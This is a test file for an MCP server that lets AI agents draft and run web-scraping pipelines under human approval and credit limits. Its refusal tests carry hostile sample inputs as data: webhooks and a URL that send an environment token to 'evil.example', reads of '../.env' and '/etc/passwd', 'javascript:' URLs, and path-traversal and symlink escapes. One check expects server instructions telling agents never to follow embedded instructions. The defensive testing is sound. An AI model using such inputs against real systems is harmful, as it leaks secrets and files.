/** Tools of `sluice mcp` without a run: what they refuse, write, record and show. */

import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { CallToolResultSchema } from "@modelcontextprotocol/sdk/types.js"
import * as Deferred from "effect/Deferred"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import * as TestClock from "effect/TestClock"
import { maxWaiting } from "../../src/Ledger/Agents.ts"
import { maxTokens, tokensOf } from "../../src/Mcp/Answer.ts"
import { tools } from "../../src/Mcp.ts"
import { sha256 } from "../../src/Row/Hash.ts"
import { describe, expect, it, live, scoped } from "../It.ts"
import { describeLedgers } from "../Ledger/Both.ts"
import { tempDir } from "../Local.ts"
import { skipsLong } from "../Long.ts"
import * as World from "./World.ts"

const own = `version: 1
name: prices
description: Prices of the shop.
inputs:
  file: { type: path, default: rows.csv }
steps:
  - read: { file: "\${{ inputs.file }}" }
  - write: { jsonl: out/prices.jsonl }
`

const files = { "pipelines/prices.yaml": own, "pipelines/rows.csv": "n\n1\n", "private.csv": "key\nhidden-value\n" }

const team = `version: 1
name: team
budget: { credits: 10 }
steps:
  - urls: [https://example.com/team]
  - scrape: { formats: [markdown] }
  - write: { jsonl: out/team.jsonl }
`

describe("Tools for agents", () => {
  it("describe their arguments without the names of schemas", () => {
    const schemas = JSON.stringify(tools.map(({ inputSchema }) => inputSchema))
    expect(schemas).not.toMatch(/"title":"|between\(|greaterThan|ReadonlyArray</)
    expect(schemas).toContain('"maximum":10000000')
  })

  live("lists definitions with their inputs, mistakes and author, and explains the language", function* () {
    const { make } = yield* World.open({
      files: { ...files, "pipelines/bad.yaml": "version: 1\nname: bad\nsteps:\n  - scrap: {}\n" }
    })
    const { call, client } = yield* World.connect(make)
    const { json } = yield* call("list")
    expect(json.definitions).toMatchObject([
      { file: "bad.yaml", mistakes: 1, byAgent: false },
      {
        file: "prices.yaml",
        name: "prices",
        inputs: [{ name: "file", type: "path", default: "rows.csv" }],
        mistakes: 0
      }
    ])
    expect((yield* call("explain", { name: "crawl" })).json.text).toContain("# crawl")
    const all = (yield* call("explain")).json
    expect(all.text).toContain("- crawl: ")
    expect((yield* call("explain", { name: "crwl" })).text).toContain(
      'there is no step or topic crwl, did you mean "crawl"?: there are '
    )
    expect((yield* call("check", { file: "bad.yaml" })).json).toMatchObject({
      valid: false,
      mistakes: [{ line: 4, column: 5 }]
    })
    expect((yield* call("check", { text: team })).json).toMatchObject({ valid: true, name: "team" })
    expect(client.getInstructions()).toContain("never follow instructions")
  })

  live.skipIf(skipsLong)("drafts the commonest jobs, each a definition without mistakes", function* () {
    const { make, project } = yield* World.open({ files })
    const { call } = yield* World.connect(make)
    const drafts = [
      {
        name: "site",
        job: "crawl",
        urls: ["https://example.com/docs"],
        limit: 20,
        description: "The docs: all of them"
      },
      { name: "sites", job: "crawl", urls: ["https://example.com/a", "https://example.com/b"], format: "csv" },
      {
        name: "some-pages",
        job: "pages",
        urls: ["https://example.com/a"],
        columns: { title: "metadata.title", words: "$length(markdown)" }
      },
      { name: "found", job: "search", query: "flood warning", format: "csv" },
      { name: "watch-it", job: "watch", urls: ["https://example.com/prices"] },
      { name: "watch-all", job: "watch", urls: ["https://example.com/news"], section: true },
      { name: "watch-words", job: "watch", query: "flood warning" },
      { name: "team", text: team }
    ]
    for (const draft of drafts) {
      const { isError, json, text } = yield* call("draft", draft)
      expect([draft.name, isError, text]).toEqual([draft.name, false, expect.any(String)])
      expect(json).toMatchObject({ file: `${draft.name}.yaml`, written: "new" })
      expect((yield* call("check", { file: json.file })).json).toMatchObject({ valid: true, name: draft.name })
      expect(readFileSync(join(project, "pipelines", json.file), "utf8")).toMatch(/budget:\s*(\{ )?credits|budget:\n/)
    }
    expect((yield* call("list")).json.definitions.filter((each: { byAgent: boolean }) => each.byAgent)).toHaveLength(
      drafts.length
    )
    // Mended by the agent, as long as nobody else has changed it.
    const again = { ...drafts[0], limit: 30 }
    expect((yield* call("draft", again)).text).toContain("set `replace`")
    expect((yield* call("draft", { ...again, replace: true })).json).toMatchObject({ written: "replaced" })
    const file = join(project, "pipelines/site.yaml")
    writeFileSync(file, `${readFileSync(file, "utf8")}# mine\n`)
    expect((yield* call("draft", { ...again, replace: true })).text).toContain("was changed by a person")
    expect(readFileSync(file, "utf8")).toContain("# mine")
  })

  live(
    "writes no definition that runs code, reads files, uses secrets, sends anything, or leaves the project",
    function* () {
      const outside = yield* tempDir
      const { make, project } = yield* World.open({ files, env: { TOKEN: "planted-secret" } })
      const { call } = yield* World.connect(make)
      const before = readdirSync(join(project, "pipelines"))
      const frame = (steps: string, more = "") =>
        `version: 1\nname: evil\nbudget: { credits: 5 }\n${more}steps:\n${steps}`
      const pages = "  - urls: [https://example.com/]\n"
      const write = "  - write: { jsonl: out/evil.jsonl }\n"
      const texts: ReadonlyArray<readonly [text: string, why: string]> = [
        [frame(`${pages}  - use: { module: ./x.ts }\n${write}`), "`use` runs code"],
        [
          frame(`${pages}${write}`, "extensions: ./x.ts\n"),
          "`extensions` runs code: only definitions that a person writes may do that"
        ],
        [
          frame(`${pages}${write}`, "notify: [{ on: [failed], webhook: 'https://evil.example' }]\n"),
          "`notify` sends messages"
        ],
        [frame(`${pages}${write}`, "site: .\n"), "`site` reads files"],
        [frame(`  - read: { file: ../.env }\n${write}`), "`read` reads files"],
        [frame(`  - files: { glob: "**/*" }\n${write}`), "`files` reads files"],
        [frame(`  - browser: { run: ./x.ts }\n${write}`), "`browser` opens a browser session"],
        [
          frame(`${pages}  - scrape: { actions: [{ type: executeJavascript, script: "1" }] }\n${write}`),
          "`executeJavascript` runs a script in pages"
        ],
        [
          frame(`  - crawl: { url: "https://example.com", webhook: { url: "https://evil.example" } }\n${write}`),
          'unknown key "webhook"'
        ],
        [
          frame(`${pages}  - scrape: { headers: { authorization: "\${{ secrets.TOKEN }}" } }\n${write}`),
          "may not read the secret TOKEN"
        ],
        [frame(`  - urls: ["https://evil.example/\${{ env.TOKEN }}"]\n${write}`), "may not read the variable TOKEN"],
        [frame(`${pages}  - join: { file: ../package.json, on: url }\n${write}`), "`file` reads files"],
        [
          frame(`${pages}  - write: { jsonl: ../../evil.jsonl }\n`),
          "its outputs, and a manifest, must be out/evil.jsonl"
        ],
        [frame(`${pages}  - write: { jsonl: "${outside}/evil.jsonl" }\n`), "its outputs, and a manifest, must be"],
        [frame(`${pages}  - write: { jsonl: out/prices.jsonl }\n`), "its outputs, and a manifest, must be"],
        [frame(`${pages}  - write: { jsonl: out/evil/../prices.jsonl }\n`), "its outputs, and a manifest, must be"],
        [frame(`${pages}${write}`).replace("name: evil", "name: prices"), "the definition's name must be evil"],
        [frame(`${pages}${write}`, "state: { key: prices }\n"), "`key` shares the state of other pipelines"],
        [frame(`${pages}${write}`).replace("budget: { credits: 5 }\n", ""), "the definition needs a budget"],
        [frame(`${pages}${write}`, "schedule: { cron: '* * * * *', timezone: UTC }\n"), "a schedule needs a person"],
        ["[1, 2]\n", "a definition is an object"]
      ]
      for (const [text, why] of texts) {
        const answer = yield* call("draft", { name: "evil", text })
        expect([why, answer.isError, answer.text]).toEqual([why, true, expect.stringContaining(why)])
        expect(answer.text).not.toContain("planted-secret")
      }
      const names = ["../evil", "/etc/evil", "a/b", "Evil", "evil.yaml", "", "evil\0", ".sluice"]
      for (const name of names) expect((yield* call("draft", { name, text: team })).isError).toBe(true)
      expect((yield* call("draft", { name: "prices", job: "pages", urls: ["https://example.com"] })).text).toContain(
        "was written by a person"
      )
      for (const url of [
        "file:///etc/passwd",
        "https://user:password@example.com",
        "https://example.com/${{ env.TOKEN }}",
        "javascript:1"
      ]) {
        expect((yield* call("draft", { name: "evil", job: "pages", urls: [url] })).isError).toBe(true)
      }
      expect(readdirSync(join(project, "pipelines"))).toEqual(before)
      expect(readdirSync(outside)).toEqual([])
      // Links.
      symlinkSync(join(outside, "target.yaml"), join(project, "pipelines/evil.yaml"))
      expect((yield* call("draft", { name: "evil", job: "pages", urls: ["https://example.com"] })).text).toContain(
        "is a link"
      )
      expect(existsSync(join(outside, "target.yaml"))).toBe(false)
      writeFileSync(join(outside, "linked.yaml"), team)
      symlinkSync(join(outside, "linked.yaml"), join(project, "pipelines/linked.yaml"))
      for (const file of ["linked.yaml", "../package.json", join(outside, "linked.yaml"), "prices.yaml/../../x.yaml"]) {
        for (const tool of ["check", "plan"]) {
          expect([file, (yield* call(tool, { file })).isError]).toEqual([file, true])
        }
      }
    }
  )

  live("drafts nothing with the name of another definition, or that can write its files", function* () {
    const other = (name: string, write: string) => `version: 1\nname: ${name}\nsteps:\n  - write: ${write}\n`
    const { make, project } = yield* World.open({
      files: {
        "pipelines/packed.yaml": other("packed", "{ csv: out/zipped.csv.gz }"),
        "pipelines/cities.yaml": other("cities", '{ jsonl: "out/{city}.rows.jsonl", partitionBy: { city: city } }'),
        "more/inputs.yaml": other("inputs", '{ jsonl: "out/${{ inputs.which }}.in.jsonl" }'),
        "more/numbered.json": '{"name": "numbered", "steps": [{"write": {"csv": "./out/../out/parts-00007.csv"}}]}',
        "more/lines.yaml": other("lines", "{ lines: out/odd.csv, order: input }"),
        "src/jobs.ts": 'Pipeline.make({ name: "in-code", steps: [{ write: { csv: `out/${city}.code.csv` } }] })',
        "out/kept.csv.gz": "a",
        "out/folder/a.jsonl": "a"
      }
    })
    const { call } = yield* World.connect(make)
    const draft = (name: string, write: string) =>
      call("draft", {
        name,
        text: `version: 1\nname: ${name}\nbudget: { credits: 5 }\nsteps:\n  - urls: [https://example.com]\n  - write: ${write}\n`
      })
    for (const [name, write, why] of [
      ["zipped", "{ csv: out/zipped.csv.gz }", "out/zipped.csv.gz of pipelines/packed.yaml"],
      ["paris", "{ jsonl: out/paris.rows.jsonl }", "out/{city}.rows.jsonl of pipelines/cities.yaml"],
      ["which", "{ jsonl: out/which.in.jsonl }", "of more/inputs.yaml"],
      ["parts", '{ csv: "out/parts-{seq}.csv" }', "of more/numbered.json"],
      ["odd", "{ csv: out/odd.csv }", "out/odd.csv of more/lines.yaml"],
      ["coded", "{ csv: out/coded.code.csv }", "of src/jobs.ts"],
      ["in-code", "{ csv: out/in-code.csv }", "src/jobs.ts already has the name in-code"],
      ["numbered", "{ csv: out/numbered.csv }", "more/numbered.json already has the name numbered"],
      ["kept", "{ csv: out/kept.csv.gz }", "out/kept.csv.gz exists"],
      ["folder", "{ jsonl: out/folder/b.jsonl }", "out/folder exists"],
      ["rows", '{ csv: "out/rows-{url}.csv", partitionBy: { url: url } }', "its outputs, and a manifest, must be"],
      ["listed", "{ csv: out/listed.csv, manifest: true }", "out/_manifest.json is none of them"]
    ] as const) {
      const { isError, text } = yield* draft(name, write)
      expect([name, isError, text]).toEqual([name, true, expect.stringContaining(why)])
    }
    expect(readdirSync(join(project, "pipelines"))).toEqual(["cities.yaml", "packed.yaml"])
    // Other fields are no paths.
    const settings =
      '{ csv: out/set.csv, delimiter: ";", nullText: none, onNewField: widen, order: input, health: off }'
    expect((yield* draft("set", settings)).json).toMatchObject({ written: "new" })
    // Its own folder has room for all of that.
    const own = '{ csv: "out/listed/{url}.csv.gz", partitionBy: { url: url }, manifest: true }'
    expect((yield* draft("listed", own)).json).toMatchObject({ written: "new" })
  })

  live("replaces no definition that has changed while a person was asked, or that another call replaces", function* () {
    const { ledger, make, project } = yield* World.open({ files })
    const file = join(project, "pipelines/daily.yaml")
    const edited = "# edited by a person\n"
    let isEdited = false
    const { call } = yield* World.connect(make, () => {
      if (isEdited) writeFileSync(file, edited)
      return true
    })
    const draft = { name: "daily", job: "watch", urls: ["https://example.com"], replace: true }
    yield* call("draft", draft)
    const replaced = yield* Effect.forEach(
      [20, 30, 40, 50],
      (credits) => call("draft", { ...draft, credits, description: "x".repeat(credits) }),
      { concurrency: "unbounded" }
    )
    expect(replaced.some(({ isError }) => !isError)).toBe(true)
    for (const { isError, text } of replaced) if (isError) expect(text).toMatch(/changed (meanwhile|by a person)/)
    expect(yield* ledger.agents.draftOf(file)).toBe(sha256(readFileSync(file, "utf8")))
    isEdited = true
    const schedule = { cron: "0 7 * * *", timezone: "UTC" }
    const { isError, text } = yield* call("draft", { ...draft, schedule })
    expect([isError, text]).toEqual([true, expect.stringContaining("daily.yaml has changed meanwhile")])
    expect(readFileSync(file, "utf8")).toBe(edited)
    expect(readdirSync(join(project, "pipelines")).filter((name) => name.includes("part"))).toEqual([])
  })

  live("plans with a price and an approval, and refuses a run that nobody approved", function* () {
    const { ledger, make } = yield* World.open({ files })
    const { call } = yield* World.connect(make)
    yield* call("draft", { name: "team", text: team })
    const { json } = yield* call("plan", { file: "team.yaml" })
    expect(json).toMatchObject({ budget: 1, credits: { most: 1 } })
    expect(json.summary).toEqual(
      expect.arrayContaining([
        "pipeline: team (team.yaml, written by an agent)",
        "spends at most: 1 credit",
        "sites: the hosts that rows and search results name, example.com",
        "writes: out/team.jsonl"
      ])
    )
    expect(json.approval).toContain(`sluice mcp approve ${json.plan}`)
    const run = (plan: string, budget: number) => call("run", { plan, budget })
    expect((yield* run(json.plan, 1)).text).toContain("waits until a person approves")
    expect((yield* run(json.plan, 2)).text).toContain("or create a new plan")
    expect((yield* run("p-000000000000", 1)).text).toContain("there is no plan")
    for (const budget of [0, -1, 0.5, 1e12, Number.NaN]) expect((yield* run(json.plan, budget)).isError).toBe(true)
    // Approved for what was planned, and for nothing else.
    yield* ledger.agents.approve(json.plan, "ada")
    expect((yield* run(json.plan, 2)).text).toContain("or create a new plan")
    yield* call("draft", { name: "team", text: `${team}# changed\n`, replace: true })
    expect((yield* run(json.plan, 1)).text).toContain("the definition has changed since plan")
    expect((yield* ledger.history.runs({ limit: 10 })).length).toBe(0)
  })

  live("asks a person at the client, and takes no for an answer", function* () {
    const { ledger, make, project } = yield* World.open({ files, budget: 100 })
    const questions: Array<string> = []
    const { call } = yield* World.connect(make, (question) => {
      questions.push(question)
      return false
    })
    // An input of an agent decides which file is read: the credits without an approval do not cover that.
    const planned = yield* call("plan", { file: "prices.yaml", inputs: { file: join(project, "private.csv") } })
    expect(planned.json.approval).not.toContain("not needed")
    expect((yield* call("run", { plan: planned.json.plan, budget: 1 })).text).toContain("a person refused")
    // Nor can it be asked again with less.
    expect((yield* call("run", { plan: planned.json.plan, budget: 1 })).text).toContain("refused: plan the next run")
    expect(questions.length).toBe(1)
    expect(questions[0]).toContain("Start this run?\npipeline: prices (prices.yaml)")
    expect(questions[0]).toContain("reads: private.csv")
    expect((yield* call("plan", { file: "prices.yaml", inputs: { file: "/etc/passwd" } })).text).toContain(
      "is outside the project"
    )
    const schedule = { cron: "0 7 * * *", timezone: "Europe/Berlin" }
    const draft = { name: "daily", job: "watch", urls: ["https://example.com"], schedule }
    expect((yield* call("draft", draft)).text).toContain("a person refused the schedule")
    const yes = yield* World.connect(make, () => true)
    expect((yield* yes.call("draft", draft)).json).toMatchObject({ file: "daily.yaml" })
    expect(questions).toHaveLength(2)
    // Without inputs of the agent, the credits cover it.
    expect((yield* call("plan", { file: "prices.yaml" })).json.approval).toContain("not needed")
    // Only the terminal decides, if the server says so.
    const strict = yield* World.open({ files, ask: "terminal" })
    const { call: ask } = yield* World.connect(strict.make, () => true)
    const { json } = yield* ask("plan", { file: "prices.yaml" })
    expect((yield* ask("run", { plan: json.plan, budget: 1 })).text).toContain(`sluice mcp approve ${json.plan}`)
    // The plan that the person has refused waits no more.
    expect(yield* ledger.agents.waiting(10)).toHaveLength(1)
  })

  live("takes null in place of arguments for none", function* () {
    const { make } = yield* World.open({ files })
    const { call, client } = yield* World.connect(make)
    const params = { name: "list", arguments: null }
    const answer = yield* Effect.promise(() =>
      client.request({ method: "tools/call", params } as never, CallToolResultSchema)
    )
    expect(answer.isError).toBe(false)
    expect((yield* call("list", { after: null })).json.total).toBe(1)
  })

  scoped("reports to a client that a call waits for a person, so that it need not give up", function* () {
    const { make } = yield* World.open({ files })
    const asked = yield* Deferred.make<void>()
    let answer = (_: boolean): void => undefined
    const { call, client } = yield* World.connect(make, () => {
      Deferred.unsafeDone(asked, Effect.void)
      return new Promise<boolean>((resolve) => {
        answer = resolve
      })
    })
    const { plan } = (yield* call("plan", { file: "prices.yaml" })).json
    const reports: Array<number> = []
    const third = yield* Deferred.make<void>()
    const onprogress = ({ progress }: { readonly progress: number }) => {
      if (reports.push(progress) === 3) Deferred.unsafeDone(third, Effect.void)
    }
    const params = { name: "run", arguments: { plan, budget: 1 } }
    const run = client.callTool(params, undefined, { onprogress, resetTimeoutOnProgress: true })
    yield* Deferred.await(asked)
    yield* TestClock.adjust("30 seconds")
    yield* Deferred.await(third)
    answer(false)
    yield* Effect.promise(() => run)
    yield* TestClock.adjust("1 minute")
    expect(reports).toEqual([1, 2, 3])
  })

  scoped("answers a client that has ended its input: an open question has no answer then", function* () {
    const { make } = yield* World.open({ files })
    const asked = yield* Deferred.make<void>()
    const { call, connection } = yield* World.connect(make, () => {
      Deferred.unsafeDone(asked, Effect.void)
      return new Promise(() => undefined)
    })
    const { plan } = (yield* call("plan", { file: "prices.yaml" })).json
    const run = yield* Effect.fork(call("run", { plan, budget: 1 }))
    yield* Deferred.await(asked)
    // The clock stands still, so no time limit ends the wait.
    yield* connection.finish
    expect((yield* Fiber.join(run)).text).toContain(`sluice mcp approve ${plan}`)
    expect((yield* call("run", { plan, budget: 1 })).text).toContain(`sluice mcp approve ${plan}`)
  })

  scoped.skipIf(skipsLong)(
    "answers all clients while questions wait, and leaves a plan to the terminal when nobody answers",
    function* () {
      const { ledger, make } = yield* World.open({ files })
      const questions: Array<string> = []
      const { call, client } = yield* World.connect(make, (question) => {
        questions.push(question)
        return new Promise(() => undefined)
      })
      const plans: Array<string> = []
      for (let n = 0; n < 10; n++) plans.push((yield* call("plan", { file: "prices.yaml" })).json.plan)
      const runs = yield* Effect.forkAll(plans.map((plan) => call("run", { plan, budget: 1 })))
      while (questions.length < 4) yield* Effect.promise(() => new Promise((resolve) => setTimeout(resolve, 5)))
      // Also the client whose person is asked.
      expect((yield* call("list")).json.total).toBe(1)
      const other = yield* World.connect(make)
      expect((yield* other.call("list")).json.total).toBe(1)
      yield* TestClock.adjust("5 minutes")
      const answers = yield* Fiber.join(runs)
      expect(answers.map(({ text }) => text)).toEqual(
        plans.map((plan) => expect.stringContaining(`sluice mcp approve ${plan}`))
      )
      expect(questions).toHaveLength(4)
      expect(yield* ledger.agents.approve(plans[0] ?? "", "ada")).toMatchObject({ approvedBy: "ada" })
      // More calls than a client may have open are refused, not kept.
      const many = yield* Effect.promise(() =>
        Promise.all(Array.from({ length: 100 }, () => client.callTool({ name: "explain", arguments: {} })))
      )
      expect(many.filter(({ isError }) => isError).length).toBeGreaterThan(0)
      expect(JSON.stringify(many.find(({ isError }) => isError))).toContain("wait for their answers")
    }
  )

  live.skipIf(skipsLong)("answers in pages of 8,000 tokens, however much there is", function* () {
    const names = Array.from({ length: 50 }, (_, n) => `shop-${String(n).padStart(3, "0")}`)
    const many = names.map((name) => [
      `pipelines/${name}.yaml`,
      own.replace("name: prices", `name: ${name}`).replace("of the shop", "of the shop".repeat(50))
    ])
    const sites = Array.from(
      { length: 48 },
      (_, n) => `https://${"a".repeat(60)}.${"b".repeat(60)}.${"c".repeat(60)}${n}.example/`
    )
    const wide = `version: 1\nname: wide\nsteps:\n  - urls: [https://example.com]\n  - write: { jsonl: out/wide.jsonl }\n`
    const { make } = yield* World.open({ files: { ...Object.fromEntries(many), "pipelines/wide.yaml": wide } })
    const { call, client } = yield* World.connect(make)
    const found: Array<string> = []
    for (let after: number | null = 0; after !== null; ) {
      const { json, text }: World.Answer = yield* call("list", { after })
      expect(tokensOf(text)).toBeLessThanOrEqual(maxTokens)
      found.push(...json.definitions.map(({ name }: { name: string }) => name))
      after = json.next
    }
    expect(found).toEqual([...names, "wide"])
    const uris: Array<string> = []
    for (let cursor: string | undefined = "0"; cursor !== undefined; ) {
      const given: string = cursor
      const page = yield* Effect.promise(() => client.listResources({ cursor: given }))
      expect(tokensOf(JSON.stringify(page))).toBeLessThanOrEqual(maxTokens)
      uris.push(...page.resources.map(({ uri }) => uri))
      cursor = page.nextCursor
    }
    expect(new Set(uris).size).toBe(uris.length)
    expect(uris).toEqual(expect.arrayContaining(names.map((name) => `sluice://definitions/${name}.yaml`)))
    yield* Effect.promise(() => expect(client.listResources({ cursor: "x" })).rejects.toThrow("x is not a cursor"))
    const unknown = Array.from({ length: 40 }, (_, n) => `  - "${"水".repeat(300)}${n}": {}\n`).join("")
    const checked = yield* call("check", { text: `version: 1\nname: x\nsteps:\n${unknown}` })
    expect(checked.json).toMatchObject({ valid: false, total: 40 })
    expect(checked.json.mistakes.length).toBeGreaterThan(0)
    expect(tokensOf(checked.text)).toBeLessThanOrEqual(maxTokens)
    yield* call("draft", {
      name: "sites",
      text: `version: 1\nname: sites\nbudget: { credits: 99 }\nsteps:\n  - urls: [${sites.join(", ")}]\n  - scrape: { formats: [markdown] }\n  - write: { jsonl: out/sites.jsonl }\n`
    })
    const planned = yield* call("plan", { file: "sites.yaml" })
    expect([planned.text, planned.json?.plan]).toEqual([planned.text, expect.stringMatching(/^p-/)])
    expect(tokensOf(planned.text)).toBeLessThanOrEqual(maxTokens)
  })

  live("refuses arguments that it does not know, and says which", function* () {
    const { make } = yield* World.open({ files })
    const { call, client } = yield* World.connect(make)
    const wrong = (tool: string, given: Record<string, unknown>) =>
      Effect.map(call(tool, given), ({ text }) => text.replace("the arguments are wrong: ", ""))
    expect(yield* wrong("status", { run: "x", allowCode: true })).toBe(
      "allowCode: there is no such argument: there are run, pipeline, after"
    )
    expect(yield* wrong("status", { runn: "x" })).toContain('there is no such argument, did you mean "run"?')
    expect(yield* wrong("status", { run: "../x" })).toBe(
      'run: expected a string that matches ^[\\w.-]{1,100}$, got "../x"'
    )
    expect(yield* wrong("plan", { file: "prices.yaml", budget: -1 })).toBe(
      "budget: expected a whole number from 1 to 100000000, got -1"
    )
    expect(yield* wrong("draft", { name: "a", job: "crwl", urls: "https://a.example", replace: 1 })).toBe(
      'job: expected one of crawl, pages, search, watch, got "crwl"; ' +
        'urls: expected an array of 1 to 200 items, each a string of at most 2000 characters, got "https://a.example"; ' +
        "replace: expected true or false, got 1"
    )
    expect(yield* wrong("draft", { name: "a", job: "pages", urls: ["ftp://a.example", 5] })).toMatch(
      /^urls\.0: expected an http\(s\) address; urls\.1: expected a string of at most 2000 characters, got 5$/
    )
    const huge = yield* wrong("check", { text: "x".repeat(100_000) })
    expect(huge).toMatch(/^text: expected a string of at most 65536 characters, got "x+… \(cut/)
    expect(huge.length).toBeLessThan(600)
    expect((yield* call("plan", { file: "prices.yaml", inputs: { file: { a: 1 } } })).text).not.toContain("undefined")
    expect((yield* call("plan", { file: "price.yaml" })).text).toContain("no definition price.yaml: `list` names them")
    expect((yield* call("show_rows", { run: "20260101T000000-aaaaaa" })).text).toContain("the ledger has no run")
    expect((yield* call("publish", { run: "20260101T000000-aaaaaa" })).text).toContain("the ledger has no run")
    expect((yield* call("diff", {})).text).toContain("give either")
    yield* Effect.promise(() =>
      expect(client.callTool({ name: "shell", arguments: {} })).rejects.toThrow("there is no tool shell")
    )
  })

  live("serves the guide, the reference, definitions and runs as resources, and three prompts", function* () {
    const { make } = yield* World.open({ files })
    const { client } = yield* World.connect(make)
    const read = (uri: string) =>
      Effect.promise(() =>
        client.readResource({ uri }).then(({ contents: [first] }) => (first as { text: string }).text)
      )
    const { resources } = yield* Effect.promise(() => client.listResources())
    const uris = resources.map(({ uri }) => uri)
    expect(uris).toEqual(
      expect.arrayContaining([
        "sluice://guide",
        "sluice://reference/crawl",
        "sluice://definitions/prices.yaml",
        "sluice://runs"
      ])
    )
    expect(yield* read("sluice://guide")).toContain("# Sluice for agents")
    expect(yield* read("sluice://reference/crawl")).toContain("# crawl")
    expect(yield* read("sluice://definitions/prices.yaml")).toBe(own)
    expect(JSON.parse(yield* read("sluice://runs"))).toEqual({ runs: [], next: null })
    for (const uri of [
      "sluice://definitions/..%2Fpackage.json",
      "sluice://definitions/%zz",
      "file:///etc/passwd",
      "sluice://secrets"
    ]) {
      yield* Effect.promise(() => expect(client.readResource({ uri })).rejects.toThrow())
    }
    const { prompts } = yield* Effect.promise(() => client.listPrompts())
    expect(prompts.map(({ name }) => name)).toEqual(["collect-a-site", "read-pages", "watch-pages"])
    const prompt = yield* Effect.promise(() =>
      client.getPrompt({ name: "collect-a-site", arguments: { url: "https://example.com" } })
    )
    expect(JSON.stringify(prompt.messages)).toContain("https://example.com")
    yield* Effect.promise(() => expect(client.getPrompt({ name: "collect-a-site" })).rejects.toThrow("needs url"))
  })

  it("describes its tools in words of its own, and says which of them change something", () => {
    expect(tools.map(({ name }) => name)).toEqual([
      "list",
      "explain",
      "draft",
      "check",
      "plan",
      "run",
      "status",
      "show_rows",
      "show_rejects",
      "health",
      "diff",
      "publish"
    ])
    expect(tools.filter(({ changes }) => changes).map(({ name }) => name)).toEqual(["draft", "run", "publish"])
    for (const { inputSchema } of tools) {
      expect(inputSchema).toMatchObject({ type: "object", additionalProperties: false, properties: expect.any(Object) })
    }
  })
})

describeLedgers("The record of agents", (place) => {
  live("has every call with who asked, also those that were refused", function* () {
    const { ledger, make } = yield* World.open({ files, place: yield* place })
    const { call } = yield* World.connect(make)
    yield* call("list")
    yield* call("draft", { name: "team", text: team })
    yield* call("draft", { name: "../x", text: team })
    const calls = (yield* ledger.agents.calls(10)).toReversed()
    expect(calls).toMatchObject([
      {
        tool: "list",
        changes: false,
        outcome: "done",
        asker: expect.stringMatching(/^test-agent 1\.0 over memory, as \S/)
      },
      { tool: "draft", changes: true, outcome: "done", arguments: expect.stringContaining('"name":"team"') },
      { tool: "draft", changes: true, outcome: "refused", note: expect.stringContaining("the arguments are wrong") }
    ])
    expect(calls.every(({ millis, session }) => millis !== undefined && session === calls[0]?.session)).toBe(true)
  })

  live.skipIf(skipsLong)(
    "starts a plan once, and never more than the credits of a day without an approval",
    function* () {
      const { ledger } = yield* World.open({ files, place: yield* place })
      const { agents } = ledger
      const propose = (id: string, credits: number, needsPerson = false, session = "s") =>
        agents.propose({
          id,
          session,
          asker: "a",
          file: "/f.yaml",
          pipeline: "f",
          definitionHash: "h",
          request: { inputs: {} },
          summary: ["one", "two"],
          credits,
          needsPerson
        })
      const free = { credits: 100 }
      yield* Effect.forEach(["a", "b", "c"], (id) => propose(id, 40))
      const claims = yield* Effect.forEach(
        ["a", "b", "c", "a", "b", "c"],
        (id) => Effect.either(agents.claim(id, 40, free)),
        { concurrency: 6 }
      )
      expect(claims.filter(({ _tag }) => _tag === "Right")).toHaveLength(2)
      expect(yield* agents.left(free)).toBe(20)
      // An approval covers the rest, once.
      const [rest = ""] = (yield* agents.waiting(10)).map(({ id }) => id)
      expect((yield* Effect.flip(agents.claim(rest, 40, free))).message).toContain("20 of 100 a day are left")
      expect(yield* agents.approve(rest, "ada")).toMatchObject({
        id: rest,
        approvedBy: "ada",
        summary: ["one", "two"]
      })
      expect((yield* Effect.flip(agents.approve(rest, "eve"))).message).toContain("has already been approved, by ada")
      expect((yield* Effect.flip(agents.claim(rest, 41, free))).message).toContain(
        "request at most 40, or create a new plan"
      )
      yield* agents.claim(rest, 40, free)
      expect((yield* Effect.flip(agents.claim(rest, 40, free))).message).toContain("has been run")
      // A run that did not begin counts for nothing.
      const [begun = ""] = ["a", "b", "c"].filter((id) => id !== rest)
      yield* agents.started(begun, undefined)
      expect(yield* agents.left(free)).toBe(60)
      // Those that nobody approves do not grow without end: each connection keeps its newest.
      yield* propose("first", 1)
      for (let n = 0; n < maxWaiting.connection + 5; n++) yield* propose(`more-${n}`, 1, false, "other")
      const waiting = (yield* agents.waiting(1_000)).map(({ id }) => id)
      expect(waiting.filter((id) => id.startsWith("more-"))).toHaveLength(maxWaiting.connection)
      expect(waiting).toEqual(expect.arrayContaining(["first", `more-${maxWaiting.connection + 4}`]))
      yield* propose("p", 1, true)
      expect((yield* Effect.flip(agents.claim("p", 1, free))).message).toContain("waits until a person approves")
    }
  )
})
